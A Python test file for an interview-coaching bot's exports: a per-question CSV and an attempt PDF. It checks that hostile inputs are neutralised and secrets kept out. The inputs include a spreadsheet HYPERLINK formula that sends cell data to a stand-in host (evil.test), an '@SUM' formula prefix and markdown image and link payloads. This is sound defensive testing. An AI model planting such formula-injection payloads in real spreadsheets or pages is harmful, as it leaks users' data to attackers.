"""The coach's exports beyond the per-attempt CSV: one row per question per attempt, and an attempt as a PDF."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.coaching import accounts, assignments, reports, reviews
from bot.coaching.attempts import start_attempt
from bot.coaching.question_rows import QUESTION_CSV_COLUMNS, export_question_csv
from bot.content.vocabulary import DIMENSIONS
from bot.errors import CoachError
from bot.interview.service import InterviewService
from bot.storage.models import public_attempt_id
from tests.storage import assignment_fields, critique, fresh_store, take_attempt
from tests.test_score_consistency import FOLLOW_UP, STRONG

PASSWORD = "a long enough password"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"open")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.without_index
def test_one_row_per_question_with_comments_flags_and_no_candidate_key(monkeypatch: pytest.MonkeyPatch) -> None:
    store = fresh_store("sqlite", monkeypatch)
    coach = accounts.add_coach(store, "lead@rows.test", PASSWORD)
    other = accounts.add_coach(store, "other@rows.test", PASSWORD)
    assignment = assignments.create_assignment(store, coach, **assignment_fields())
    session_id, (first, second) = take_attempt(store, assignment, name=FORMULA, scores=(3.0, 4.0))
    store.add_turn(session_id, "hint", "Question 0?", "hint", "q0")
    skipped = store.add_turn(session_id, "skip", "Question 2?", "skip", "q2", late=True)
    reviews.review(store, coach, first, comment="@SUM(A1) think about the holdout")
    reviews.review(store, coach, first, dimension="evaluation", score=5, comment="Clear metric")
    reviews.review(store, coach, skipped, comment="Why skip this one?")

    text = export_question_csv(store, coach, assignment.id)
    header, *_ = text.splitlines()
    assert tuple(header.split(",")) == QUESTION_CSV_COLUMNS
    q0, q1, q2 = rows_of(text)
    assert [r["question_id"] for r in (q0, q1, q2)] == ["q0", "q1", "q2"]
    assert [r["question_number"] for r in (q0, q1, q2)] == ["1", "2", "3"]
    assert {r["attempt_id"] for r in (q0, q1, q2)} == {public_attempt_id(session_id)}
    assert q0["candidate_name"] == "'" + FORMULA  # neutralised, like every cell
    assert q0["coach_comment"] == "'@SUM(A1) think about the holdout | Clear metric"
    assert q0["evaluation"] == "5.0" and q0["hints"] == "1" and q0["skipped"] == "no" and q0["late"] == "no"
    assert q1["overall"] and q1["coach_comment"] == ""
    assert q2["skipped"] == "yes" and q2["late"] == "yes" and q2["overall"] == "" and q2["question"] == "Question 2?"
    assert q2["coach_comment"] == "Why skip this one?"
    started = rows_of(reports.export_csv(store, coach, assignment.id))
    assert len(started) == 1 and session_id not in text  # the session id (a secret) is never exported
    assert store.get_session(session_id).candidate not in text  # nor the candidate key
    # the one score definition: each question's scores are the dashboard's, rounded the same way
    (row,) = reports.attempts(store, coach, assignment.id)
    for shown in row["questions"]:
        exported = next(r for r in (q0, q1, q2) if r["question_id"] == shown["question_id"])
        assert exported["overall"] == str(shown["overall"])
        assert all(exported[d] == str(shown["scores"][d]) for d in DIMENSIONS)
    with pytest.raises(CoachError, match="not found"):
        export_question_csv(store, other, assignment.id)  # another coach's assignment


def test_question_rows_agree_with_the_candidate_summary_after_a_real_interview() -> None:
    service = InterviewService()
    coach = accounts.add_coach(service.store, "lead@interview-rows.test", PASSWORD)
    due = datetime.now(UTC) + timedelta(days=3)
    assignment = assignments.create_assignment(service.store, coach, "Rows", "feature", None, [], 2, 2, None, due)
    session_id = start_attempt(service, assignment.code, "Ada", None, "key-rows").session_id
    service.submit(session_id, "hint")
    result = service.submit(session_id, STRONG)
    turns = 0
    while not result.done:  # the first question's follow-ups, then skip the second question
        turns += 1
        result = service.submit(session_id, f"{FOLLOW_UP} ({turns})" if result.question_number < 2 else "skip")
        assert turns < 12
    state = service.view(session_id)
    exported = rows_of(export_question_csv(service.store, coach, assignment.id))
    assert [r["question"] for r in exported] == [r.question for r in state.results]
    for row, result in zip(exported, state.results, strict=True):
        assert row["skipped"] == ("yes" if result.skipped else "no")
        assert row["overall"] == ("" if result.overall is None else str(round(result.overall, 1)))
        assert int(row["hints"]) == result.hints
    assert any(r["skipped"] == "yes" for r in exported) and exported[0]["hints"] == "1"
    (attempt_row,) = rows_of(reports.export_csv(service.store, coach, assignment.id))
    assert float(attempt_row["overall"]) == state.summary.overall  # the per-attempt file is unchanged


@pytest.mark.without_index
def test_an_attempt_prints_as_a_pdf_with_scores_critique_and_comments_as_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pypdf import PdfReader

    from bot.web.coach_exports import write_attempt_pdf
    from bot.web.coach_render import attempt_markdown

    store = fresh_store("sqlite", monkeypatch)
    coach = accounts.add_coach(store, "lead@pdf.test", PASSWORD)
    assignment = assignments.create_assignment(store, coach, **assignment_fields(title="Week <b>4</b>"))
    session_id, (turn,) = take_attempt(store, assignment, name="Zoë ![x](http://evil.test/x.png)", scores=(2.0,))
    store.attach_critique(turn, {**critique(2.0), "strengths": ["Named a metric"], "gaps": ["No rollback [plan]"]})
    reviews.review(
        store,
        coach,
        turn,
        dimension="evaluation",
        score=4,
        comment="See [this](http://evil.test) — and **add** a holdout",
    )

    view = reports.transcript(store, coach, public_attempt_id(session_id))
    markdown = attempt_markdown(view)
    assert "![x](" not in markdown and "](http" not in markdown  # no image or link survives, only their words
    assert "Evaluation 4.0 (coach lead@pdf.test)" in markdown and "- **Gaps:** No rollback \\[plan\\]" in markdown
    path = write_attempt_pdf(view)
    assert path.endswith(f"{public_attempt_id(session_id)}.pdf") and Path(path).read_bytes()[:5] == b"%PDF-"
    text = " ".join(page.extract_text() for page in PdfReader(path).pages)
    for expected in ("Week <b>4</b>", "Zoë", "Named a metric", "No rollback [plan]", "add a holdout", "Evaluation 4.0"):
        assert expected in text, (expected, text)
    assert PdfReader(path).pages[0].get("/Annots") is None  # no link annotations
